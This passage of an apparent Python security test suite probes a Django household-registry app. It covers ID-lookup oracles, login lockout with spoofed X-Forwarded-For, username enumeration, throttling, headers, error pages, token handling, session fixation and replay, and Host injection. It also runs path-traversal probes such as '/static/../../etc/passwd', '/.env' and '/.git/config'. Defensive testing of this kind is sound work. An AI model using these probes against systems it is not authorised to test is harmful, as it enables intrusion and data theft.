        # 3: after the daily allowance (CCCD_FOREIGN_LOOKUPS_PER_DAY=3 in this run) the answers stop. Two were
        # used above (the same person twice: the full-width ID is the same ID), so one answer is left.
        left = max(0, FOREIGN_LOOKUPS - 2)
        codes = [f"TOUR-C{i}" for i in range(3, 3 + len(foreign))]
        response = dry_run([member(code, p) for code, p in zip(codes, foreign, strict=True)], codes)
        messages = id_messages(response)
        answered = sum("another commune" in m for m in messages)
        stopped = sum("cannot be checked" in m for m in messages)
        ok = answered == left and stopped == len(foreign) - left
        self.add(
            "cccd",
            f"import dry run: {len(foreign)} foreign IDs with {left} answer left of the allowance "
            f"({FOREIGN_LOOKUPS}/day)",
            f"{left} answered, then 'cannot be checked today' for the others",
            f"answered {answered}, stopped {stopped}",
            ok,
            "medium",
            evidence=" | ".join(messages)[:800],
        )
        # 4: past the allowance, the household code the ID belongs to must not be guessable by trying codes.
        person = foreign[1]
        response_right = dry_run([member(person["household"], person)], [person["household"]])
        response_wrong = dry_run([member("TOUR-C99", person)], ["TOUR-C99"])
        right, wrong = id_messages(response_right), id_messages(response_wrong)
        ok = bool(right) and bool(wrong)
        self.add(
            "cccd",
            "past the allowance: same foreign ID under its real household code vs. another code",
            "the ID refused both times (no answer tells which household holds it)",
            f"real code: {right[:1] or 'NO message on the ID'}; other code: {wrong[:1]}",
            ok,
            "medium",
            evidence=f"real code {person['household']}: {describe(response_right, 900)} || other code: "
            f"{describe(response_wrong, 400)}",
        )
        # The dry run's counts for a household code of another commune (one member row, without an ID).
        person = foreign[3]
        response = dry_run(
            [[person["household"], "Tour Thử", person["sex"], person["dob"], "head", None]], [person["household"]]
        )
        counts = response.json().get("counts", {}) if response.status_code in (200, 201) else {}
        members = counts.get("members", {})
        told = members.get("updated", 0) + members.get("deleted", 0) + members.get("unchanged", 0)
        self.add(
            "cccd",
            f"import dry run with the household code {person['household']} of another commune and one member row",
            "refused, and the counts say nothing of that household (its members, its reviews)",
            f"counts: {counts.get('households')} {members}: {told} existing members told (it has {person['members']})",
            told == 0 and not counts.get("households", {}).get("updated"),
            "medium",
            evidence=describe(response, 1200),
        )
        # The same counts as an oracle: the name and birth date of a member (without a citizen ID, as in the demo)
        # of a household of another commune, right against wrong.
        guess = c["guess"]
        guesses = {}
        for label, name in (("real name", guess["name"]), ("wrong name", "Tour Thử")):
            answer = dry_run(
                [[guess["household"], name, guess["sex"], guess["dob"], guess["relation"], None]], [guess["household"]]
            )
            guesses[label] = (
                answer.json().get("counts", {}).get("members") if answer.status_code in (200, 201) else None
            )
        self.add(
            "cccd",
            f"import dry runs guessing a member of household {guess['household']} (another commune, "
            f"{guess['members']} member(s)): real name and birth date vs. a wrong name",
            "the same answer (nothing tells a right guess)",
            f"real name: {guesses['real name']}; wrong name: {guesses['wrong name']}",
            guesses["real name"] == guesses["wrong name"],
            "medium",
            evidence=f"members counts {guesses}",
        )
        # The household search of the list, by the citizen ID of someone of another commune.
        response = self.client("commune_now").get(f"/households/?q={foreign[3]['national_id']}")
        found = bool(
            re.search(r'href="/households/\d+/"', re.sub(r"<(nav|header)[^>]*>.*?</\1>", "", response.text, flags=re.S))
        )
        self.add(
            "cccd",
            "household list searched by the citizen ID of a person of another commune",
            "no household found",
            f"{response.status_code}, found: {found}",
            response.status_code == 200 and not found,
            "medium",
            evidence=describe(response),
        )
        # 5: the household form answers as the import does.
        officer = self.client("commune_now")
        page = officer.get("/households/new/")
        fields = form_with(page.text, "address")
        if fields:
            set_field(fields, "code", f"TOUR-F{secrets.token_hex(2)}")
            set_field(fields, "village", str(c["village"]))
            set_field(fields, "members-0-full_name", "Tour Thử")
            set_field(fields, "members-0-sex", foreign[2]["sex"])
            set_field(fields, "members-0-date_of_birth", foreign[2]["dob_iso"])
            set_field(fields, "members-0-relation", "head")
            set_field(fields, "members-0-national_id", foreign[2]["national_id"])
            response = officer.post("/households/new/", fields)
            person = foreign[2]
            leaks = [w for w in (person["commune"], person["name"], person["household"]) if w in response.text]
            said = "cannot be checked" in response.text or "another commune" in response.text
            ok = response.status_code == 200 and not leaks and said
            self.add(
                "cccd",
                "household form (new household) with a foreign citizen ID",
                "refused, nothing named",
                f"{response.status_code}, refused: {said}, leaks: {leaks or 'none'}",
                ok,
                "medium",
                evidence=describe(response),
            )

    # 12. login lockout ------------------------------------------------------------------------------------

    def lockout(self):
        users = self.world["users"]

        def attempt(user, ip, password, *, source=None, path="/accounts/login/", xff=None):
            client = Client(
                self,
                f"login:{user['username']}@{ip}",
                client_ip=xff or ip,
                user={**user, "password": self.password},
                source=source,
            )
            if path == "/accounts/login/":
                response = client.login(password=password)
            else:
                client.session.get(client.url(path), timeout=60)
                response = client.session.post(
                    client.url(path),
                    data={
                        "username": user["username"],
                        "password": password,
                        "csrfmiddlewaretoken": client.session.cookies.get("csrftoken", ""),
                        "next": "/admin/",
                    },
                    timeout=60,
                    allow_redirects=False,
                )
            return response

        def signed_in(response):
            return response.status_code == 302 and "/accounts/login/" not in response.headers.get("Location", "")

        # The victim, from their address A: 5 wrong passwords lock them at A.
        victim = users["victim1"]
        a, b = "203.0.113.10", "203.0.113.11"
        answers = [attempt(victim, a, "wrong-password").status_code for _ in range(5)]
        response = attempt(victim, a, self.password)
        locked = response.status_code in (403, 429) and not signed_in(response)
        self.add(
            "lockout",
            f"5 wrong passwords for {victim['username']} from {a}, then the right one from {a}",
            "locked (429 'Too many failed logins')",
            f"tries {answers}, then {response.status_code}",
            locked,
            "medium",
            evidence=describe(response),
        )
        response = attempt(victim, b, self.password)
        self.add(
            "lockout",
            f"the same user, right password, from another address {b}",
            "signs in (the lockout is per username and address)",
            f"{response.status_code}",
            signed_in(response),
            "medium",
            evidence=describe(response),
        )
        # Her token stops working from the locked address, not elsewhere.
        token = victim["token"]
        for ip, expect, label in ((a, {401, 403}, "locked address"), (b, {200}, "another address")):
            client = Client(self, f"token@{ip}", client_ip=ip, token=token)
            self.expect_status(
                "lockout",
                client,
                "GET",
                "/api/v1/households/",
                expect,
                "medium",
                sent=f"the locked-out user's API token from the {label} {ip}",
            )
        # An attacker behind the proxy cannot dodge the lockout by writing X-Forwarded-For: the proxy appends
        # the true address, which is read from the right.
        victim2, attacker = users["victim2"], "198.51.100.7"
        answers = []
        for i in range(5):
            answers.append(attempt(victim2, attacker, "wrong", xff=f"10.{i}.0.1, {attacker}").status_code)
        response = attempt(victim2, attacker, self.password, xff=f"10.99.0.1, {attacker}")
        self.add(
            "lockout",
            f"5 wrong passwords for {victim2['username']}, each with a new spoofed address "
            f"prepended (X-Forwarded-For: 10.i.0.1, {attacker}), then the right one",
            "locked: the spoofed part is ignored",
            f"tries {answers}, then {response.status_code}",
            response.status_code in (403, 429),
            "medium",
            evidence=describe(response),
        )
        # A client that is not the proxy, claiming to be the victim's address, locks only itself.
        victim3, claimed = users["victim3"], "203.0.113.50"
        answers = [attempt(victim3, claimed, "wrong", source=UNTRUSTED_SOURCE).status_code for _ in range(5)]
        response = attempt(victim3, claimed, self.password)
        self.add(
            "lockout",
            f"5 wrong passwords for {victim3['username']} from {UNTRUSTED_SOURCE} (not a trusted "
            f"proxy) with X-Forwarded-For: {claimed}; then the victim signs in from {claimed} via the proxy",
            "the victim signs in (the header of an untrusted client is ignored)",
            f"tries {answers}, then victim {response.status_code}",
            signed_in(response),
            "medium",
            evidence=describe(response),
        )
        response = attempt(victim3, "-", self.password, source=UNTRUSTED_SOURCE)
        self.add(
            "lockout",
            f"the untrusted client {UNTRUSTED_SOURCE} itself, right password",
            "locked (its own address was counted)",
            f"{response.status_code}",
            response.status_code in (403, 429),
            "low",
            evidence=describe(response),
        )
        # Anyone, from anywhere, cannot lock the username for everyone.
        victim4 = users["victim4"]
        for i in range(5):
            attempt(victim4, f"192.0.2.{i + 1}", "wrong")
        answers = [attempt(victim4, "192.0.2.66", "wrong").status_code for _ in range(5)]
        response = attempt(victim4, "203.0.113.77", self.password)
        self.add(
            "lockout",
            f"10 wrong passwords for {victim4['username']} from 6 addresses, then the user from her own address",
            "signs in",
            f"{answers}, then {response.status_code}",
            signed_in(response),
            "medium",
            evidence=describe(response),
        )
        # The admin's login page counts toward the same lockout.
        victim5, d = users["victim5"], "203.0.113.60"
        answers = [attempt(victim5, d, "wrong", path="/admin/login/").status_code for _ in range(5)]
        response = attempt(victim5, d, self.password)
        self.add(
            "lockout",
            f"5 wrong passwords for {victim5['username']} on /admin/login/ from {d}, then the right "
            "one on /accounts/login/",
            "locked (one lockout for both forms)",
            f"admin tries {answers}, then {response.status_code}",
            response.status_code in (403, 429),
            "medium",
            evidence=describe(response),
        )
        # Username enumeration: an unknown user and a wrong password get the same page.
        known = attempt(users["victim6"], "203.0.113.70", "wrong")
        unknown = attempt({"username": "no-such-user-" + secrets.token_hex(3)}, "203.0.113.71", "wrong")
        same = known.status_code == unknown.status_code and strip_tokens(known.text).replace(
            users["victim6"]["username"], "U"
        ) == strip_tokens(unknown.text).replace(
            re.search(r"no-such-user-\w+", unknown.text).group(0)
            if re.search(r"no-such-user-\w+", unknown.text)
            else "\0",
            "U",
        )
        self.add(
            "lockout",
            "wrong password for an existing user vs. an unknown username",
            "the same answer",
            f"{known.status_code} vs {unknown.status_code}, same page: {same}",
            same,
            "low",
            evidence=f"{describe(known)} || {describe(unknown)}",
        )

    # 13. the API throttle across workers -----------------------------------------------------------------

    def throttle(self):
        """Both workers count one token's requests in the shared cache: first one request at a time (each on a new
        connection, so both workers answer), then six at a time with another token."""

        def fire(token: str, total: int, threads: int, tag: str):
            statuses, retry_after = [], set()

            def one(i):
                client = Client(self, "throttle", client_ip=f"203.0.113.{100 + i % 20}", token=token)
                client.session.headers["Connection"] = "close"
                response = client.get(f"/api/v1/standards/?{tag}={i}")
                return response.status_code, response.headers.get("Retry-After")

            started = time.monotonic()
            with concurrent.futures.ThreadPoolExecutor(max_workers=threads) as pool:
                for status, retry in pool.map(one, range(total)):
                    statuses.append(status)
                    if retry:
                        retry_after.add(retry)
            seconds = time.monotonic() - started
            time.sleep(1)  # the access log is written by the workers
            pids = {line.split()[0] for line in self.access_log.read_text().splitlines() if f"?{tag}=" in line}
            return Counter(statuses), sorted(retry_after), seconds, pids

        total = THROTTLE_PER_MINUTE + 30
        counts, retry_after, seconds, pids = fire(self.world["users"]["throttle"]["token"], total, 1, "seq")
        ok = counts.get(200, 0) == THROTTLE_PER_MINUTE and counts.get(429, 0) == 30 and len(pids) >= 2 and retry_after
        self.add(
            "throttle",
            f"{total} API requests with one token, one at a time ({seconds:.0f} s), rate {THROTTLE_PER_MINUTE}/minute",
            f"exactly {THROTTLE_PER_MINUTE} answered by the 2 workers together, then 429 with Retry-After",
            f"{dict(counts)}, Retry-After {retry_after[:3]}, served by {len(pids)} worker processes",
            bool(ok),
            "medium",
            evidence=f"{dict(counts)} pids={pids}",
        )
        counts, retry_after, seconds, pids = fire(self.world["users"]["throttle2"]["token"], total, 6, "par")
        allowed = counts.get(200, 0)
        ok = allowed <= THROTTLE_PER_MINUTE and counts.get(429, 0) > 0
        self.add(
            "throttle",
            f"{total} API requests with one token, 6 at a time ({seconds:.0f} s), rate {THROTTLE_PER_MINUTE}/minute",
            f"at most {THROTTLE_PER_MINUTE} answered, the rest 429",
            f"{dict(counts)}: {max(0, allowed - THROTTLE_PER_MINUTE)} over the rate, {len(pids)} workers",
            ok,
            "low",
            evidence=f"{dict(counts)} pids={pids}; DRF's SimpleRateThrottle reads the request history from the cache "
            "and writes it back (no atomic update): concurrent requests overwrite each other's entries",
        )

    # 14. headers and caching ----------------------------------------------------------------------------

    def headers_and_caching(self):
        officer = self.client("commune_now")
        anon = self.anonymous()
        x = self.world["xss"]
        api = self.api("api")
        samples = [
            ("anonymous home", anon, "/"),
            ("login page", anon, "/accounts/login/"),
            ("signed-in page", officer, "/households/"),
            ("API (token)", api, "/api/v1/households/"),
            ("static file", anon, self.static_file()),
            ("404 page", anon, "/no-such-page/"),
        ]
        for label, client, path in samples:
            response = client.get(path)
            h = response.headers
            missing = []
            hsts = h.get("Strict-Transport-Security", "")
            if "max-age=31536000" not in hsts or "includeSubDomains" not in hsts:
                missing.append(f"HSTS={hsts!r}")
            if h.get("X-Content-Type-Options") != "nosniff":
                missing.append("nosniff")
            if label != "static file" and h.get("X-Frame-Options") != "DENY":
                missing.append(f"X-Frame-Options={h.get('X-Frame-Options')!r}")
            if not h.get("Referrer-Policy"):
                missing.append("Referrer-Policy")
            csp = h.get("Content-Security-Policy", "")
            if "text/html" in h.get("Content-Type", "") and (
                "frame-ancestors 'none'" not in csp or "'unsafe-inline'" in csp.split("script-src")[-1].split(";")[0]
            ):
                missing.append(f"CSP={csp!r}")
            server = h.get("Server", "")
            version_leak = bool(re.search(r"\d", server))
            if version_leak:
                missing.append(f"Server={server!r}")
            self.add(
                "headers",
                f"GET {path} ({label})",
                "HSTS 1 year+subdomains, nosniff, X-Frame-Options DENY, "
                "Referrer-Policy, CSP frame-ancestors 'none' without inline script, no server version",
                "all present" if not missing else f"missing/wrong: {missing}",
                not missing,
                "low",
                evidence=f"{response.status_code} " + "; ".join(f"{k}: {v}" for k, v in h.items()),
            )
        # no-store on what a signed-in user sees, downloads included.
        no_store_paths = [
            (officer, f"/households/{x['household']}/"),
            (officer, f"/households/export.csv?q={quote(x['code'])}"),
            (officer, f"/reviews/rounds/{x['round']}/export.xlsx"),
            (officer, self.world["downloads"]["certificate"]),
            (officer, self.world["downloads"]["report_job"]),
            (officer, f"/reports/lists/?unit={x['commune']}&year={x['year']}&format=xlsx"),
            (officer, "/no-such-page/"),
            (api, "/api/v1/households/?format=csv"),
            (api, f"/api/v1/households/{self.world['downloads']['api_household']}/"),
        ]
        for client, path in no_store_paths:
            response = client.get(path)
            cache = response.headers.get("Cache-Control", "")
            ok = "no-store" in cache and response.status_code < 500
            self.add(
                "cache",
                f"GET {path} as {client.name}",
                "Cache-Control: no-store",
                f"{response.status_code}, Cache-Control: {cache!r}",
                ok,
                "low",
                evidence=describe(response),
            )
        # Cookies.
        client = Client(
            self,
            "cookies",
            client_ip="203.0.113.90",
            user={**self.world["users"]["cookies"], "password": self.password},
        )
        response = client.login()
        cookies = response.raw.headers.getlist("Set-Cookie") if hasattr(response.raw.headers, "getlist") else []
        session_cookie = next((c for c in cookies if c.startswith("sessionid=")), "")
        csrf_cookie = next((c for c in cookies if c.startswith("csrftoken=")), "")
        problems = []
        lower = session_cookie.lower()
        for flag in ("secure", "httponly", "samesite=lax"):
            if flag not in lower:
                problems.append(f"session cookie without {flag}")
        max_age = re.search(r"max-age=(\d+)", lower)
        if not max_age or int(max_age.group(1)) > IDLE_MINUTES * 60:
            problems.append(f"session cookie Max-Age {max_age.group(1) if max_age else 'none'} > idle limit")
        if csrf_cookie and "secure" not in csrf_cookie.lower():
            problems.append("csrftoken cookie not Secure")
        self.add(
            "session",
            "sign in, read Set-Cookie",
            "sessionid Secure, HttpOnly, SameSite=Lax, Max-Age ≤ idle limit; csrftoken Secure",
            "ok" if not problems else "; ".join(problems),
            not problems,
            "low",
            evidence=" | ".join(cookies),
        )
        # The redirect to HTTPS for a request that did not come through the TLS proxy.
        status, headers, _body = raw_request(self, "GET", "/households/", {"X-Forwarded-Proto": None})
        location = headers.get("Location", "")
        self.add(
            "headers",
            "GET /households/ without X-Forwarded-Proto (plain HTTP)",
            "301 to https://",
            f"{status} → {location}",
            status == 301 and location.startswith("https://"),
            "low",
            evidence=f"{status} {headers}",
        )

    # 15. error pages ----------------------------------------------------------------------------------------

    def error_pages(self):
        officer_vi = self.client("viewer_vi", lang="vi")
        officer = self.client("commune_now")
        viewer = self.client("viewer")
        plan = self.world["bounds"]["plan"]

        def looks(response, lang):
            body = response.text
            problems = []
            if 'class="topbar"' not in body:
                problems.append("not the app's page")
            if f'lang="{lang}"' not in body:
                problems.append(f"not in {lang}")
            for leak in ("Traceback", "SECRET_KEY", "DJANGO_SETTINGS_MODULE", "URLconf", "settings.py", "DEBUG = True"):
                if leak in body:
                    problems.append(f"leaks {leak}")
            return "; ".join(problems) or None

        cases = [
            ("404 anonymous, no language", self.anonymous(lang=""), "/no-such-page/", 404, "vi"),
            ("404 anonymous, Accept-Language: en", self.anonymous(lang="en"), "/no-such-page/", 404, "en"),
            ("404 signed in (vi)", officer_vi, "/households/999999999/", 404, "vi"),
            ("403 viewer on /households/new/ (en)", viewer, "/households/new/", 403, "en"),
            ("403 viewer on /households/new/ (vi)", officer_vi, "/households/new/", 403, "vi"),
            ("400 bad ?year on a plan (en)", officer, f"/plans/{plan}/?year=abc", 400, "en"),
            ("400 bad ?year on a plan (vi)", officer_vi, f"/plans/{plan}/?year=abc", 400, "vi"),
        ]
        for label, client, path, status, lang in cases:
            response = client.get(path)
            problem = None if response.status_code == status else f"status {response.status_code}"
            problem = problem or looks(response, lang)
            self.add(
                "errors",
                f"{label}: GET {path}",
                f"{status}, the app's page in {lang}, no debug information",
                f"{response.status_code}" + (f": {problem}" if problem else ", ok"),
                problem is None,
                "medium" if response.status_code >= 500 else "low",
                evidence=describe(response, 400),
            )
        # The language cookie wins over the browser's language.
        client = self.anonymous(lang="vi")
        client.session.cookies.set("django_language", "en")
        response = client.get("/no-such-page/")
        problem = looks(response, "en")
        self.add(
            "errors",
            "404 with cookie django_language=en and Accept-Language: vi",
            "404 in English",
            f"{response.status_code}" + (f": {problem}" if problem else ", ok"),
            response.status_code == 404 and problem is None,
            "low",
            evidence=describe(response, 400),
        )
        # The CSRF failure page (403) is an error page too.
        household = self.world["xss"]["household"]
        for lang, client in (("vi", officer_vi), ("en", officer)):
            response = client.post(f"/households/{household}/edit/", {"address": "x"}, csrf=False)
            problem = None if response.status_code == 403 else f"status {response.status_code}"
            problem = problem or looks(response, lang)
            self.add(
                "errors",
                f"403 CSRF failure page ({lang}): POST without token",
                f"403, the app's page in {lang}",
                f"{response.status_code}" + (f": {problem}" if problem else ", ok"),
                problem is None,
                "low",
                evidence=describe(response, 400),
            )
        # The 400 of a host not allowed.
        status, _headers, body = raw_request(self, "GET", "/", {"Host": "evil.example"})
        text = body.decode("utf-8", "replace")
        problems = [p for p in ("Traceback", "DisallowedHost", "ALLOWED_HOSTS", "SECRET") if p in text]
        self.add(
            "errors",
            "GET / with Host: evil.example",
            "400, no debug information",
            f"{status}, leaks: {problems or 'none'}, app page: {'topbar' in text}",
            status == 400 and not problems,
            "low",
            evidence=f"{status} {text[:300]}",
        )
        # The API answers JSON errors.
        response = self.api("api").get("/api/v1/no-such-thing/")
        ok = response.status_code == 404 and "json" in response.headers.get("Content-Type", "")
        self.add(
            "errors",
            "GET /api/v1/no-such-thing/ with a token",
            "404 JSON",
            f"{response.status_code} {response.headers.get('Content-Type')}",
            ok,
            "low",
            evidence=describe(response),
        )

    # 16. /admin/, schema, tokens, methods -------------------------------------------------------------

    def static_file(self) -> str:
        page = self.anonymous().get("/accounts/login/")
        match = re.search(r'href="(/static/css/app[^"]*\.css)"', page.text)
        return match.group(1) if match else "/static/css/app.css"

    def admin_schema_tokens_methods(self):
        anon = self.anonymous()
        officer = self.client("commune_now")
        response = anon.get("/admin/")
        self.add(
            "admin",
            "anonymous GET /admin/",
            "302 to the admin's login",
            f"{response.status_code} → {response.headers.get('Location')}",
            response.status_code == 302,
            "medium",
            evidence=describe(response),
        )
        response = officer.get("/admin/")
        location = response.headers.get("Location", "")
        login = officer.get(location) if response.status_code == 302 else response
        reveals = (
            "Site administration" in login.text or "Quản trị trang" in login.text or "/admin/accounts/" in login.text
        )
        self.add(
            "admin",
            "non-staff commune officer GET /admin/",
            "no admin content (login page saying the account may not enter)",
            f"{response.status_code} → {location}; then {login.status_code}, admin content: {reveals}",
            not reveals and response.status_code in (302, 403),
            "medium",
            evidence=describe(login, 600),
        )
        for path in ("/admin/accounts/user/", "/admin/households/household/", "/admin/jsi18n/"):
            response = officer.get(path)
            ok = response.status_code in (302, 403, 404) and "/admin/login/" in response.headers.get(
                "Location", "/admin/login/"
            )
            self.add(
                "admin",
                f"non-staff GET {path}",
                "302 to the admin login",
                f"{response.status_code}",
                ok,
                "medium",
                evidence=describe(response),
            )
        # Schema and docs.
        viewer = self.client("viewer")
        for client, path, expect in (
            (viewer, "/api/schema/", {200}),
            (viewer, "/api/docs/", {200}),
            (self.api("api"), "/api/schema/", {200}),
        ):
            self.expect_status("schema", client, "GET", path, expect, "low", sent=f"{client.name} GET {path}")
        # Tokens elsewhere than the Authorization header.
        token = self.world["users"]["api"]["token"]
        bare = self.anonymous()
        for path in (
            f"/api/v1/households/?token={token}",
            f"/api/v1/households/?auth_token={token}",
            f"/api/v1/households/?access_token={token}",
        ):
            self.expect_status(
                "token",
                bare,
                "GET",
                path.replace(token, token[:6] + "…") and path,
                {401, 403},
                "medium",
                sent=f"GET {path.replace(token, '<token>')} (token in the query string)",
            )
        self.expect_status(
            "token",
            bare,
            "GET",
            "/api/v1/households/",
            {401, 403},
            "medium",
            headers={"Authorization": f"Bearer {token}"},
            sent="Authorization: Bearer <token>",
        )
        self.expect_status(
            "token",
            bare,
            "GET",
            "/api/v1/households/",
            {401, 403},
            "medium",
            headers={"Authorization": "Token " + "0" * 40},
            sent="a made-up token",
        )
        cookie_client = self.anonymous()
        cookie_client.session.cookies.set("sessionid", token)
        self.expect_status(
            "token",
            cookie_client,
            "GET",
            "/api/v1/households/",
            {401, 403},
            "medium",
            sent="the token sent as the session cookie",
        )
        # Methods the read-only API does not take.
        api = self.api("api")
        h = self.world["downloads"]["api_household"]
        job = self.world["downloads"]["own_import_job"]
        owner = self.api("commune_now")
        for client, method, path in (
            (api, "PUT", f"/api/v1/households/{h}/"),
            (api, "PATCH", f"/api/v1/households/{h}/"),
            (api, "DELETE", f"/api/v1/households/{h}/"),
            (api, "POST", "/api/v1/households/"),
            (api, "DELETE", "/api/v1/statistics/"),
            (api, "PUT", "/api/v1/units/1/"),
            (api, "DELETE", f"/api/v1/plans/{self.world['bounds']['plan']}/"),
            (api, "POST", "/api/v1/standards/"),
            (owner, "DELETE", f"/api/v1/imports/{job}/"),
            (owner, "PUT", f"/api/v1/imports/{job}/"),
        ):
            self.expect_status(
                "methods",
                client,
                method,
                path,
                {405, 404},
                "medium",
                json_body={} if method in ("PUT", "PATCH", "POST") else None,
                expected_text="405 (404 where the object is not the caller's)",
            )
        for method, path in (
            ("DELETE", f"/households/{self.world['xss']['household']}/"),
            ("PUT", "/households/"),
            ("PATCH", "/plans/"),
            ("OPTIONS", "/households/"),
        ):
            self.expect_status(
                "methods",
                officer,
                method,
                path,
                {200, 405},
                "medium",
                headers={"X-CSRFToken": officer.csrf()},
                sent=f"{method} {path} as commune_now (with the CSRF token, to reach the view)",
                expected_text="405 or the page, no change, no 500",
            )
        status, _headers, body = raw_request(self, "TRACE", "/")
        self.add(
            "methods",
            "TRACE /",
            "not echoed (405/400)",
            f"{status}",
            status in (400, 405, 501) or b"TRACE" not in body,
            "low",
            evidence=f"{status} {body[:200]!r}",
        )

    # 17. traversal and Host ------------------------------------------------------------------------------

    def traversal_and_host(self):
        media_file = self.world["downloads"]["media_path"]
        paths = [
            "/media/../manage.py",
            "/static/../manage.py",
            "/static/..%2f..%2fmanage.py",
            "/static/%2e%2e/%2e%2e/manage.py",
            "/static/../../etc/passwd",
            "/static/..%5c..%5cmanage.py",
            "/media/../povertyplan/settings/base.py",
            "/static/css/..%2f..%2f..%2fpovertyplan/settings/base.py",
            "/media/",
            "/media/meeting-minutes/",
            f"/media/{media_file}",
            "/staticfiles.json",
            "/.env",
            "/.git/config",
        ]
        for path in paths:
            status, headers, body = raw_request(self, "GET", path)
            leaked = [
                m
                for m in (b"SECRET_KEY", b"root:x:", b"execute_from_command_line", b"[core]", b"PK\x03\x04")
                if m in body
            ]
            ok = status in (400, 404) and not leaked
            self.add(
                "traversal",
                f"GET {path} (raw path, anonymous)",
                "404/400, no file content",
                f"{status}, content leaked: {leaked or 'none'}",
                ok,
                "high" if leaked else "low",
                evidence=f"{status} {body[:200]!r}",
            )
        # The report file of a signed-in user through /media/ (it must go through its job's page).
        officer = self.client("commune_now")
        response = officer.get(f"/media/{media_file}")
        self.add(
            "traversal",
            f"signed-in owner GET /media/{media_file}",
            "404 (files only through their pages)",
            f"{response.status_code}",
            response.status_code == 404,
            "medium",
            evidence=describe(response),
        )
        # Host header.
        status, headers, body = raw_request(self, "GET", "/accounts/login/", {"Host": None})
        self.add(
            "host",
            "GET /accounts/login/ without a Host header (HTTP/1.1)",
            "400, or the page under the server's own name",
            f"{status}",
            status in (200, 400) and b"evil" not in body,
            "low",
            evidence=f"{status} {body[:200]!r}",
        )
        for host in ("evil.example", "127.0.0.1:1@evil.example", "localhost.evil.example", "127.0.0.1 evil.example"):
            status, headers, body = raw_request(self, "GET", "/accounts/login/", {"Host": host})
            ok = status == 400
            self.add(
                "host",
                f"GET /accounts/login/ with Host: {host!r}",
                "400",
                f"{status}",
                ok,
                "low",
                evidence=f"{status} {body[:200]!r}",
            )
        status, headers, body = raw_request(self, "GET", "/households/", {"X-Forwarded-Host": "evil.example"})
        location = headers.get("Location", "")
        self.add(
            "host",
            "GET /households/ with X-Forwarded-Host: evil.example",
            "redirect stays on this site",
            f"{status} → {location}",
            "evil.example" not in location,
            "low",
            evidence=f"{status} {headers}",
        )
        status, headers, body = raw_request(self, "GET", "http://evil.example/households/")
        location = headers.get("Location", "")
        self.add(
            "host",
            "GET http://evil.example/households/ (absolute URI in the request line)",
            "400 or a redirect that stays on this site",
            f"{status} → {location}",
            "evil.example" not in location,
            "low",
            evidence=f"{status} {headers}",
        )

    # 18. sessions -------------------------------------------------------------------------------------

    def idle_start(self):
        user = self.world["users"]["idle"]
        self.idle = Client(self, "idle", client_ip=user["ip"], user={**user, "password": self.password})
        self.idle.auto_login = False
        self.idle.login()
        first = self.idle.get("/households/")
        self.idle_first = first.status_code
        self.idle_at = time.monotonic()

    def idle_finish(self):
        wait = IDLE_MINUTES * 60 + 5 - (time.monotonic() - self.idle_at)
        if wait > 0:
            print(f"\n  waiting {wait:.0f} s for the idle session to pass {IDLE_MINUTES} minutes", flush=True)
            time.sleep(wait)
        self.pinging.set()
        response = self.idle.get("/households/")
        location = response.headers.get("Location", "")
        idle_for = time.monotonic() - self.idle_at
        self.add(
            "session",
            f"a session left idle {idle_for:.0f} s (SESSION_IDLE_MINUTES={IDLE_MINUTES})",
            "signed out: 302 to the login page",
            f"first {self.idle_first}, after the wait {response.status_code} → {location}",
            self.idle_first == 200 and response.status_code == 302 and "/accounts/login/" in location,
            "medium",
            evidence=describe(response),
        )
        # The keep-alive session was used between every group: it must still be signed in.
        alive_for = time.monotonic() - self.keepalive.signed_in_at
        response = self.keepalive.get("/households/")
        self.add(
            "session",
            f"a session used every 30 s for {alive_for:.0f} s (longer than the idle limit)",
            "still signed in (200)",
            f"{response.status_code}",
            response.status_code == 200 or alive_for < IDLE_MINUTES * 60,
            "low",
            evidence=f"pings (s since sign-in, status): {self.pings} then {describe(response)}",
        )

    def sessions(self):
        user = self.world["users"]["cookies"]
        # The session key changes at sign-in (no fixation).
        client = Client(self, "fixation", client_ip="203.0.113.91", user={**user, "password": self.password})
        client.session.get(client.url("/accounts/login/"), timeout=30)
        client.session.cookies.set("sessionid", "fixatedsessionid0000000000000000")
        token = client.session.cookies.get("csrftoken", "")
        response = client.session.post(
            client.url("/accounts/login/"),
            data={"username": user["username"], "password": self.password, "csrfmiddlewaretoken": token},
            timeout=30,
            allow_redirects=False,
        )
        new = response.cookies.get("sessionid") or client.session.cookies.get("sessionid")
        self.add(
            "session",
            "sign in carrying a session cookie chosen by an attacker",
            "a new session key",
            f"{response.status_code}, key changed: {new != 'fixatedsessionid0000000000000000'}",
            new and new != "fixatedsessionid0000000000000000",
            "medium",
            evidence=describe(response),
        )
        # A session ended by logout cannot be replayed.
        client = Client(self, "replay", client_ip="203.0.113.92", user={**user, "password": self.password})
        client.login()
        stolen = client.session.cookies.get("sessionid")
        client.post("/accounts/logout/", {})
        thief = self.anonymous(ip="198.51.100.99")
        thief.session.cookies.set("sessionid", stolen)
        response = thief.get("/households/")
        self.add(
            "session",
            "replay a session cookie after its user logged out",
            "302 to the login page",
            f"{response.status_code} → {response.headers.get('Location', '')}",
            response.status_code == 302,
            "medium",
            evidence=describe(response),
        )
        # The session cookie is not tied to the address: noted, as Django does (a stolen cookie works elsewhere).

    def server_error_rows(self):
        if not self.server_errors:
            self.add(
                "errors",
                f"every answer of the tour ({self.answers}) checked for 5xx",
                "no 500 anywhere",
                "none",
                True,
                "medium",
            )
            return
        for who, method, path, status, body in self.server_errors:
            problems = [p for p in ("Traceback", "SECRET_KEY", "DJANGO_SETTINGS_MODULE", 'File "/') if p in body]
            looks = 'class="topbar"' in body or "json" in body[:20] or body.startswith("{")
            self.add(
                "errors",
                f"the {status} answered to {method} {path} ({who}): its page",
                "the app's 500 page, no traceback",
                f"leaks: {problems or 'none'}, app's page: {looks}",
                not problems,
                "medium",
                evidence=body[:300],
            )

    # --- checks after the attacks, in the database ---

    def after(self):
        if not self.post_checks:
            return
        state = self.shell(POSTCHECK_CODE)
        for key, before, label in self.post_checks:
            now = state.get(key)
            ok = now == 0 if key == "minutes_files" else now == before
            self.add(
                "after",
                label,
                f"{before!r}",
                f"{now!r}",
                ok,
                "high",
                evidence=f"{key}: before {before!r}, after {now!r}",
            )


def zip_of(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def is_local(location: str) -> bool:
    """Whether a browser following ``location`` stays on this site (a path, or an absolute URL of this host)."""
    if not location or any(ord(ch) < 0x20 for ch in location):
        return False
    parts = urlsplit(location)
    if parts.scheme or parts.netloc:
